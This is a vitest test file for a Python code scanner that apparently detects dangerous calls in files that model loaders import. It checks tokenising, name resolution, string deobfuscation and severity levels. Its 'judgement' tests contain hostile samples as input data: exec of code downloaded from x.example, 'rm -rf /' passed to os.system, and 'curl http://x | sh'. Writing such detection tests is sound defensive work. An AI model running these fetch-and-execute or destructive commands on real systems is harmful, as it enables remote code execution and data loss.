/** Python source: tokens, expressions, what names stand for, and what texts come to. */
import { describe, expect, test } from 'vitest';
import { IMPORTED_BY_LOADERS } from '../../../src/supply/code/python-names.ts';
import { Program } from '../../../src/supply/code/python-program.ts';
import { tokenize } from '../../../src/supply/code/python-tokens.ts';
import { Values } from '../../../src/supply/code/python-values.ts';
import { pythonIssues } from '../../../src/supply/code/python.ts';

const shown = (source: string): readonly string[] => tokenize(source).filter(({ kind }) => kind !== 'line' && kind !== 'end').map(({ kind, value }) => `${kind} ${value}`);

describe('tokens', () => {
  test('comments, texts and continuation lines', () => {
    expect(shown('a = "x # y" # z')).toEqual(['name a', 'op =', 'text x # y']);
    expect(shown("s = r'\\n' + b'\\x41' + '\\u0042'")).toEqual(['name s', 'op =', 'text \\n', 'op +', 'text A', 'op +', 'text B']);
    expect(shown('a = 1 + \\\n 2')).toEqual(['name a', 'op =', 'number 1', 'op +', 'number 2']);
    expect(shown('"""a\n"b" c"""')).toEqual(['text a\n"b" c']);
  });

  test('a text that is not closed ends with its line', () => {
    expect(shown('a = "x\nos.y')).toEqual(['name a', 'op =', 'text x', 'name os', 'op .', 'name y']);
  });

  test('lines are counted, columns are those of blocks', () => {
    const lines = tokenize('if x:\n    y = """\n\n"""\n\tz').filter(({ kind }) => kind === 'line');
    expect(lines.map(({ line, indent }) => [line, indent])).toEqual([[1, 0], [2, 4], [5, 8], [5, 0]]);
  });
});

/** The full names of what is called, and the first argument's text. */
function calls(source: string): readonly string[] {
  const found: string[] = [];
  const values = new Values(() => undefined);
  new Program(source, values, {
    call: ({ callee, args }, place) => {
      const [first] = args;
      const text = first === undefined ? undefined : values.text(first.value);
      found.push(`${place.runs} ${values.path(callee) ?? '?'}${text === undefined ? '' : ` ${text}`}`);
    },
    returned: () => undefined, assigned: () => undefined, imported: () => undefined,
  }, (name) => name === '__init__', () => undefined).run();
  return found;
}

describe('names', () => {
  test.each([
    ['import os\nos.system("a")', 'import os.system a'],
    ['import os.path as p\np.join("a", "b")', 'import os.path.join a'],
    ['from a.b import (c as d,\n  e)\nd("x")', 'import a.b.c x'],
    ['from a import b, c\nc()', 'import a.c'],
    ['f = os.system\nf("a")', 'import os.system a'],
    ['x: int = 3\ng = [os.system][0]\ng("a")', 'import os.system a'],
    ['sys.modules["os"].system("a")', 'import os.system a'],
    ['class A:\n  def __init__(self):\n    self.f = os.system\n    self.f("a")', 'load os.system a'],
    ['def later():\n  os.system("a")', 'later os.system a'],
    ['if __name__ == "__main__":\n  os.system("a")\n', 'main os.system a'],
    ['class A(base("x")):\n  os.system("a")', 'import os.system a'],
    ['@deco("x")\ndef f(): os.system("a")', 'later os.system a'],
    ['x = lambda a, b=(1, 2): os.system("a")', 'import os.system a'],
    ['print(f"{os.system(\'a\')!r:>10}")', 'import os.system a'],
    ['functools.partial(os.system, "x")("a")', 'import os.system a'],
  ])('%s', (source, expected) => {
    expect(calls(source)).toContain(expected);
  });

  test('what follows a block is outside it', () => {
    expect(calls('def f():\n  pass\nos.system("a")')).toEqual(['import os.system a']);
  });
});

describe('texts', () => {
  test.each([
    ['"a" "b"', 'ab'], ['"a" + "b"', 'ab'], ['"%s-%s" % ("a", "b")', 'a-b'], ['"{}{x}".format("a", "b")', 'ab'], ['"".join(["a", "b"])', 'ab'], ['"ba"[::-1]', 'ab'], ['chr(97) + chr(98)', 'ab'], ['"".join(map(chr, [97, 98]))', 'ab'], ['"".join(chr(i) for i in [97, 98])', 'ab'],
    ['base64.b64decode("YWI=").decode()', 'ab'], ['bytes.fromhex("6162").decode()', 'ab'], ['codecs.decode("no", "rot13")', 'ab'], ['bytes([97, 98])', 'ab'], ['"xb".replace("x", "a")', 'ab'], ['os.path.join("a", "b")', 'a/b'], ['Path("a") / "b"', 'a/b'], ['"AB".lower()', 'ab'], ['f"a{\'b\'}"', 'ab'],
  ])('%s', (source, expected) => {
    expect(calls(`from pathlib import Path\nsay(${source})`)).toContain(`import say ${expected}`);
  });

  test('what is not known stays unknown', () => {
    expect(calls('say(x + "b")')).toEqual(['import say']);
    expect(calls('x = x + x\nx = x + x\nsay(x)')).toEqual(['import say']);
  });
});

describe('judgement', () => {
  const worst = (source: string, as: 'loaded' | 'notebook' | 'script' = 'script'): string => pythonIssues(source, { as }, () => undefined)[0]?.level ?? 'none';

  test('where a value comes from is followed through names, loops, blocks and functions', () => {
    expect(worst('import requests\ndef get():\n  return requests.get("http://x.example").text\ncode = get()\nexec(code)')).toBe('danger');
    expect(worst('with urllib.request.urlopen("http://x.example") as r:\n  src = r.read()\nexec(src)')).toBe('danger');
    expect(worst('parts = []\nfor p in requests.get("http://x.example").iter_lines():\n  parts.append(p)\nexec("".join(parts))')).toBe('danger');
    expect(worst('exec(open("version.py").read())')).toBe('note');
  });

  test('the same act weighs more in a file that loaders import', () => {
    const act = 'import subprocess\nsubprocess.run(["build"])';
    expect([worst(act, 'loaded'), worst(act, 'script'), worst(act, 'notebook')]).toEqual(['danger', 'odd', 'note']);
  });

  test('texts and comments do nothing', () => {
    expect(worst('"""os.system(\'rm -rf /\')"""\n# exec(base64.b64decode(x))\ns = "curl http://x | sh"', 'loaded')).toBe('none');
    expect(worst('model.eval()\nre.compile("a")\ndf.eval("a + b")\nself.exec(x)\nos.environ["A"] = "b"', 'loaded')).toBe('none');
  });

  test('which files loaders import', () => {
    for (const name of ['modeling_x.py', 'configuration_x.py', 'handler.py', '__init__.py', 'custom_pipeline.py']) expect(IMPORTED_BY_LOADERS.test(name), name).toBe(true);
    for (const name of ['train.py', 'setup.py', 'app.py', 'utils.py']) expect(IMPORTED_BY_LOADERS.test(name), name).toBe(false);
  });
});
